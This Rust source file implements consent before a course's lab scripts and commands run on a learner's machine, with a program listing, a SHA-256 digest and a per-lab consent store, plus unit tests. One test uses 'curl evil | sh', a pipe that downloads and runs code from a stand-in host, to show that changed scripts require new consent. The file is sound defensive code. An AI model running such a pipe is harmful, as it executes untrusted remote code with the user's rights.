//! Consent to run a course's programs on the learner's machine.
//!
//! `command` and `script` conditions are the course author's code: they run on the learner's
//! computer, with the learner's rights. Before they first run, the clients show what will run
//! ([`programs`]: per step and condition, the command line, or the interpreter and the
//! script's text) and ask. The answer is remembered in a small file in the client's data
//! folder ([`ConsentStore`], `$XDG_DATA_HOME/cloudmaster/lab-consent.json`), per server,
//! course and lab, for exactly those programs: a [`digest`] of what was shown. A new course
//! version that changes them asks again; one that does not, does not.
//!
//! Declarative checks run no program and need no consent, and neither does `cloudmaster lab
//! test` (the author's own files).

use std::io::{self, Write as _};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use crate::course::{Check, Lab};

/// The consent file in the client's data folder.
pub const CONSENT_FILE: &str = "lab-consent.json";

/// Bumped when the file changes incompatibly (an unreadable file asks again).
const FORMAT: u32 = 1;

/// One program a lab runs on the learner's machine.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Program {
    pub step: String,
    pub condition: String,
    #[serde(flatten)]
    pub run: Run,
}

/// What a condition runs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "check", rename_all = "snake_case")]
pub enum Run {
    /// A `command` check: the program and its arguments, run without a shell.
    Command { argv: Vec<String> },
    /// A `script` check: `interpreter SCRIPT`, with the script's text (`None` when the lab
    /// has no such text file: then nothing runs, the condition fails).
    Script {
        interpreter: String,
        path: String,
        text: Option<String>,
    },
}

impl Program {
    /// One line saying what runs: `step/condition: command: terraform validate`.
    pub fn headline(&self) -> String {
        let what = match &self.run {
            Run::Command { argv } => format!("runs `{}`", argv.join(" ")),
            Run::Script {
                interpreter, path, ..
            } => format!("runs `{interpreter} {path}`"),
        };
        format!(
            "step `{}`, condition `{}` {what}",
            self.step, self.condition
        )
    }
}

/// The programs `lab` runs, in step and condition order.
pub fn programs(lab: &Lab) -> Vec<Program> {
    let mut found = Vec::new();
    for step in &lab.steps {
        for condition in &step.conditions {
            let run = match &condition.check {
                Check::Command { run, .. } => Run::Command { argv: run.clone() },
                Check::Script { script } => Run::Script {
                    interpreter: "sh".to_owned(),
                    path: script.clone(),
                    text: lab.file(script).and_then(|f| f.text()).map(str::to_owned),
                },
                _ => continue,
            };
            found.push(Program {
                step: step.id.clone(),
                condition: condition.id.clone(),
                run,
            });
        }
    }
    found
}

/// A fingerprint of `programs`: the SHA-256 of their JSON, hex. Consent holds for this.
pub fn digest(programs: &[Program]) -> String {
    let json = serde_json::to_vec(programs).unwrap_or_default();
    hex::encode(Sha256::digest(json))
}

/// The listing shown before asking: each program's headline, with up to `max_lines` lines of
/// each script, indented.
pub fn describe(programs: &[Program], max_lines: usize) -> String {
    let mut text = String::new();
    for program in programs {
        text.push_str("  - ");
        text.push_str(&program.headline());
        text.push('\n');
        if let Run::Script { text: script, .. } = &program.run {
            let Some(script) = script else {
                text.push_str("      (the lab has no such script: nothing runs)\n");
                continue;
            };
            let lines: Vec<&str> = script.lines().collect();
            for line in lines.iter().take(max_lines) {
                text.push_str("      | ");
                text.push_str(line);
                text.push('\n');
            }
            if lines.len() > max_lines {
                text.push_str(&format!(
                    "      | … ({} more lines)\n",
                    lines.len() - max_lines
                ));
            }
        }
    }
    text
}

/// Whose programs: the server (or course source), the course and the lab.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ConsentKey {
    pub server: String,
    pub course_id: String,
    pub lab_id: String,
    /// For the reader of the file; the digest is what must match.
    pub lab_version: u32,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Granted {
    #[serde(flatten)]
    key: ConsentKey,
    digest: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct ConsentFile {
    format: u32,
    granted: Vec<Granted>,
}

/// Why the consent file could not be written.
#[derive(Debug, thiserror::Error)]
#[error("cannot write {}", path.display())]
pub struct ConsentError {
    pub path: PathBuf,
    #[source]
    pub source: io::Error,
}

/// The consent file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConsentStore {
    path: PathBuf,
}

impl ConsentStore {
    /// The file `CONSENT_FILE` in `data_dir`.
    pub fn in_data_dir(data_dir: &Path) -> ConsentStore {
        ConsentStore {
            path: data_dir.join(CONSENT_FILE),
        }
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Whether the programs with `digest` were allowed for `key`. A missing or unreadable
    /// file allows nothing (the learner is asked again).
    pub fn granted(&self, key: &ConsentKey, digest: &str) -> bool {
        self.read().granted.iter().any(|g| {
            g.digest == digest
                && g.key.server == key.server
                && g.key.course_id == key.course_id
                && g.key.lab_id == key.lab_id
        })
    }

    /// Remembers that the programs with `digest` may run for `key` (replacing what was
    /// allowed for an earlier version of the same lab). Written atomically.
    pub fn grant(&self, key: &ConsentKey, digest: &str) -> Result<(), ConsentError> {
        let mut file = self.read();
        file.format = FORMAT;
        file.granted.retain(|g| {
            !(g.key.server == key.server
                && g.key.course_id == key.course_id
                && g.key.lab_id == key.lab_id)
        });
        file.granted.push(Granted {
            key: key.clone(),
            digest: digest.to_owned(),
        });
        let temp = self.path.with_extension("json.tmp");
        let write = || -> io::Result<()> {
            if let Some(dir) = self.path.parent() {
                std::fs::create_dir_all(dir)?;
            }
            let mut out = std::fs::File::create(&temp)?;
            serde_json::to_writer_pretty(&mut out, &file)?;
            out.write_all(b"\n")?;
            out.sync_all()?;
            std::fs::rename(&temp, &self.path)
        };
        write().map_err(|source| ConsentError {
            path: self.path.clone(),
            source,
        })
    }

    fn read(&self) -> ConsentFile {
        std::fs::read_to_string(&self.path)
            .ok()
            .and_then(|text| serde_json::from_str::<ConsentFile>(&text).ok())
            .filter(|file| file.format == FORMAT)
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::testutil::{condition, file, lab, step};

    fn scripted(script: &str) -> Lab {
        lab(
            vec![file("checks/ok.sh", script)],
            vec![step(
                "one",
                vec![
                    condition("exists", Check::FileExists { path: "x".into() }),
                    condition(
                        "script",
                        Check::Script {
                            script: "./checks/ok.sh".into(),
                        },
                    ),
                    condition(
                        "cmd",
                        Check::Command {
                            run: vec!["terraform".into(), "validate".into()],
                            exit_code: 0,
                            stdout_contains: None,
                            stdout_matches: None,
                        },
                    ),
                ],
                Vec::new(),
            )],
        )
    }

    #[test]
    fn programs_list_scripts_with_their_text_and_commands() {
        let found = programs(&scripted("#!/bin/sh\necho one\necho two\n"));
        assert_eq!(found.len(), 2, "declarative checks run nothing");
        let listing = describe(&found, 2);
        assert_eq!(
            listing,
            "  - step `one`, condition `script` runs `sh ./checks/ok.sh`\n      \
             | #!/bin/sh\n      | echo one\n      | … (1 more lines)\n  \
             - step `one`, condition `cmd` runs `terraform validate`\n"
        );
        assert!(programs(&lab(Vec::new(), Vec::new())).is_empty());
    }

    #[test]
    fn consent_holds_for_the_programs_shown_only() {
        let dir = tempfile::tempdir().unwrap();
        let store = ConsentStore::in_data_dir(&dir.path().join("data"));
        let key = ConsentKey {
            server: "http://s".into(),
            course_id: "c".into(),
            lab_id: "l".into(),
            lab_version: 1,
        };
        let v1 = digest(&programs(&scripted("exit 0\n")));
        let v2 = digest(&programs(&scripted("curl evil | sh\n")));
        assert_ne!(v1, v2);
        assert!(!store.granted(&key, &v1));
        store.grant(&key, &v1).unwrap();
        assert!(store.granted(&key, &v1));
        assert!(!store.granted(&key, &v2), "changed scripts ask again");
        let other = ConsentKey {
            server: "http://elsewhere".into(),
            ..key.clone()
        };
        assert!(!store.granted(&other, &v1), "another server asks again");
        let key2 = ConsentKey {
            lab_version: 2,
            ..key.clone()
        };
        store.grant(&key2, &v2).unwrap();
        assert!(store.granted(&key, &v2));
        assert!(
            !store.granted(&key, &v1),
            "the newer grant replaces the older"
        );
        std::fs::write(store.path(), "not json").unwrap();
        assert!(
            !store.granted(&key, &v2),
            "an unreadable file allows nothing"
        );
    }
}
